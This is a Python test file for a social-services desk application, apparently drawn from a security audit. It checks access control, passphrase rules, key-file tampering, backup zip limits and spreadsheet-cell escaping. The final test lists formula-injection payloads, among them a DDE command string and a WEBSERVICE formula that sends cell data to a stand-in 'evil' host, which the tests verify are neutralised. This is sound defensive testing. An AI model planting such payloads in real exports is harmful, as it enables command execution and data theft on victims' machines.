"""What an audit found: nobody comes further by an id, a search, a name in a signal, or a copy or package made by hand."""

import zipfile
from dataclasses import replace
from datetime import datetime, time, timedelta
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest
from sqlalchemy import select

from sociaalhuis.access import keys, users
from sociaalhuis.actions import THE_PROGRAM
from sociaalhuis.catalogue.service import PUBLIC, SECRET
from sociaalhuis.db.catalogue import Phone, Service
from sociaalhuis.db.desk import SlipCopy
from sociaalhuis.db.people import NamedColleague, Person
from sociaalhuis.desk import drafts, intake
from sociaalhuis.desk.agenda import series
from sociaalhuis.desk.agenda.hours import Series
from sociaalhuis.desk.catalogue import editing
from sociaalhuis.desk.client import clients, complaints, protecting
from sociaalhuis.desk.day import signals, tally
from sociaalhuis.desk.outing import choosing, closing, homecoming, preparing
from sociaalhuis.desk.referral import referrals, slips
from sociaalhuis.desk.workdays import BRUSSELS
from sociaalhuis.errors import Damage, Refusal, Trouble
from sociaalhuis.exchange import backup, compacting
from sociaalhuis.exchange.catalogue.sheets import safe
from sociaalhuis.house import House
from tests.desk.colleagues import as_role
from tests.houses import CHEAP, NOW, PASSPHRASES, SignIn


def test_a_slip_and_a_draft_are_not_reached_by_their_ids(house: House) -> None:
    social = as_role(house, "maatschappelijk_werker")
    person = intake.add_person(social, "Zita", "Geheim")
    noted = intake.register(social, intake.Question("huur", person=person), NOW)
    protecting.protect(social, person, [social.actor.id or UUID(int=0)], NOW)
    with house.store.write(social.actor, "referral.give") as session:
        kept = SlipCopy(contact_id=noted.id, at=NOW, user_id=social.actor.id, text=["a"], pdf=b"%PDF", sha256="x")
        session.add(kept)
        session.flush()
        slip = kept.id
    for role in ("onthaal", "vrijwilliger", "stad"):
        with pytest.raises(Refusal):
            slips.copy(as_role(house, role), slip)
    draft = uuid4()
    drafts.keep(social, draft, "question", {"words": "van mij"}, NOW)
    with pytest.raises(Refusal):
        drafts.keep(house, draft, "question", {"words": "overschreven"}, NOW)
    drafts.drop(house, draft)
    assert [one.content for one in drafts.mine(social)] == [{"words": "van mij"}]


def test_part_of_a_number_finds_no_stranger(house: House) -> None:
    social = as_role(house, "maatschappelijk_werker")
    person = intake.add_person(social, "Noor", "Vreemd", phone="0477 88 99 01")
    assert clients.search(house, "047788")[1] == []
    assert [one.id for one in clients.search(house, "0477 88 99 01")[1]] == [person]
    assert [one.id for one in clients.search(social, "047788")[1]] == [person], "who knows her finds her by less"


def test_a_signal_does_not_tell_who_is_a_client(house: House) -> None:
    intake.add_person(house, "Liselot", "Qwastelmans")
    told = signals.Heard("lacune_aanbod", "wonen", "beschikbaarheid", "geen opvang, zegt liselot qwastelmans ook")
    with pytest.raises(Refusal):
        signals.give(house, told, NOW)
    stranger = replace(told, text="geen opvang, zegt liselot qwestelmans ook")
    for role in ("stad", "vrijwilliger"):
        said = []
        for one in (told, stranger):
            try:
                signals.give(as_role(house, role), one, NOW)
                said.append("taken")
            except Refusal as refusal:
                said.append(refusal.what)
        assert len(set(said)) == 1, "the same of a client and of nobody"


def test_who_opens_no_files_counts_only_his_own_and_hears_no_secret_name(house: House) -> None:
    noted = intake.register(house, intake.Question("geweld", domains=("veiligheid_recht",)), NOW)
    referrals.give(house, noted.id, ["ocmw-bilzen-hoeselt"], "self", NOW)
    with house.store.write(THE_PROGRAM, "catalogue.load") as session:
        row = session.scalars(select(Service).where(Service.slug == "ocmw-bilzen-hoeselt")).one()
        row.confidentiality = SECRET
    for role in ("stad", "vrijwilliger", "rapport_lezer"):
        assert tally.of_day(as_role(house, role), NOW.date()).domains == {}
        assert tally.most_used(as_role(house, role), NOW.date()) == []
    assert tally.of_day(house, NOW.date()).domains == {"veiligheid_recht": 1}
    assert tally.most_used(house, NOW.date()) == []
    social = as_role(house, "maatschappelijk_werker")
    assert len(tally.most_used(social, NOW.date())) == 1
    for act in (editing.begin, lambda house, slug: editing.change(house, slug, {"confidentiality": PUBLIC})):
        with pytest.raises(Refusal, match="alleen voor maatschappelijk werk"):
            act(house, "ocmw-bilzen-hoeselt")
    assert editing.begin(social, "ocmw-bilzen-hoeselt").fields["confidentiality"] == SECRET


def test_a_complaint_leaves_only_coordinators(house: House) -> None:
    social = as_role(house, "maatschappelijk_werker")
    person = intake.add_person(social, "Amélie", "Proefdael")
    named = [one.id for one in protecting.colleagues(house, person) if one.shown in ("maatschappelijk_werker", "onthaal")]
    protecting.protect(social, person, named, NOW)
    complaints.note(house, "klacht", "eigen_klachtendienst", NOW, person=person)  # about the social worker
    for role in ("maatschappelijk_werker", "onthaal"):
        with pytest.raises(Refusal, match="afgeschermd"):
            clients.look(as_role(house, role), person, "toch kijken")
    assert clients.look(as_role(house, "coordinator"), person, "klacht").family_name == "Proefdael"


def test_a_package_made_by_hand_opens_no_protected_file(sign_in: SignIn, tmp_path: Path) -> None:
    then, secret = datetime.combine(NOW.date() + timedelta(days=3), time(12, 55), BRUSSELS), PASSPHRASES["onthaal"]
    home = sign_in("onthaal")
    social = as_role(home, "maatschappelijk_werker")
    person = intake.add_person(social, "Zita", "Geheim", street="Schuilplaats 9")
    protecting.protect(social, person, [social.actor.id or UUID(int=0)], NOW)
    series.plan(as_role(home, "coordinator"), Series(uuid4(), "", "Bart", "Bibliotheek", "elke do 13-16"), NOW)
    plan = next(one for one in choosing.coming(home, NOW) if one.day == then.date())
    preparing.prepare(home, plan, secret, tmp_path / "heen.zitdag", NOW, cost=CHEAP)
    preparing.open_package(tmp_path / "heen.zitdag", tmp_path / "laptop", secret, then)
    laptop = users.sign_in(tmp_path / "laptop", secret, clock=lambda: then)
    with laptop.store.write(THE_PROGRAM, "outing.fill") as session:
        session.add(Person(id=person, given_name="a", family_name="b", sought="a b", protected=False))
        session.flush()
        session.add(NamedColleague(person_id=person, colleague_id=home.actor.id, at=then, user_id=home.actor.id))
    closing.close(laptop, secret, tmp_path / "thuis.zitdag", then)
    laptop.close()
    with pytest.raises(Refusal, match="toegang tot een afgeschermd dossier"):
        homecoming.bring(home, tmp_path / "thuis.zitdag", then)
    with pytest.raises(Refusal, match="afgeschermd"):
        clients.look(home, person, "zitdag")


def test_a_secret_service_stays_at_home(house: House) -> None:
    coordinator = as_role(house, "coordinator")
    series.plan(coordinator, Series(uuid4(), "", "Bart", "Bibliotheek", "elke do 13-16"), NOW)
    with house.store.write(THE_PROGRAM, "catalogue.load") as session:
        for row in session.scalars(select(Service).where(Service.slug.in_(("ocmw-bilzen-hoeselt", "hulplijn-1712")))):
            row.confidentiality = SECRET
    for who, there in ((house, 0), (as_role(house, "maatschappelijk_werker"), 2)):
        plan = choosing.coming(who, NOW)[0]
        with who.store.read() as session:
            rows = choosing.choose(who, session, plan, NOW).rows
        secret = {row["id"] for row in rows[Service] if row["confidentiality"] == SECRET}
        assert len(secret) == there
        assert bool([row for row in rows[Phone] if row["service_id"] in secret]) == bool(there)


@pytest.mark.parametrize(
    "weak",
    [" " * 10, "aaaaaaaaaa", "wachtwoord", "Wachtwoord2026", "sociaalhuis", "An Pietersen", "an.pietersen1", "1234567890"],
)
def test_a_passphrase_that_everybody_tries_is_refused(weak: str) -> None:
    with pytest.raises(Refusal):
        keys.Keyring(uuid4()).with_passphrase(keys.new_key(), uuid4(), "An Pietersen", weak, CHEAP)
    keys.Keyring(uuid4()).with_passphrase(keys.new_key(), uuid4(), "An Pietersen", "de fiets staat buiten", CHEAP)


@pytest.mark.parametrize(
    ("name", "value"), [("memory", 2**33), ("memory", "veel"), ("passes", -5), ("salt", "é"), ("lanes", 0)]
)
def test_a_key_file_made_by_hand_is_damage(name: str, value: Any) -> None:
    ring = keys.Keyring(uuid4()).with_passphrase(keys.new_key(), uuid4(), "An", "de fiets staat buiten", CHEAP)
    (slot,) = ring.slots
    wrong = replace(slot, salt=str(value)) if name == "salt" else replace(slot, cost=replace(slot.cost, **{name: value}))
    with pytest.raises(Damage):
        keys.from_json(keys.to_json(replace(ring, slots=(wrong,))))


def test_a_copy_that_grows_when_it_is_unpacked_is_none(house: House, tmp_path: Path) -> None:
    made = backup.make(house, tmp_path / "stick", NOW)
    with zipfile.ZipFile(made.file) as good, zipfile.ZipFile(tmp_path / "groot.zip", "w", zipfile.ZIP_DEFLATED) as packed:
        for one in good.namelist():
            packed.writestr(one, good.read(one))
    with pytest.raises(Trouble, match="geen reservekopie"):
        backup.restore(tmp_path / "groot.zip", tmp_path / "terug", PASSPHRASES["onthaal"], NOW)


def test_what_a_power_cut_left_goes_and_what_was_set_aside_is_named(house: House, tmp_path: Path) -> None:
    (tmp_path / "stick" / ".kopie-abc").mkdir(parents=True)
    backup.make(house, tmp_path / "stick", NOW)
    assert [one.suffix for one in (tmp_path / "stick").iterdir()] == [".zip"]
    (house.place / "voor-server-sociaalhuis").mkdir()
    assert "voor-server-sociaalhuis" in compacting.drop_old_copies(house.place)


@pytest.mark.parametrize("text", ["+1+cmd|' /C calc'!A0", '-1+WEBSERVICE("http://evil/?"&G2)', "=1", "@x", "+x"])
def test_a_spreadsheet_does_not_reckon(text: str) -> None:
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize("text", ["+32 89 12 34 56", "-12,50", "(089) 12 34 56", "089/12.34.56", ""])
def test_a_number_stays_a_number(text: str) -> None:
    assert safe(text) == text
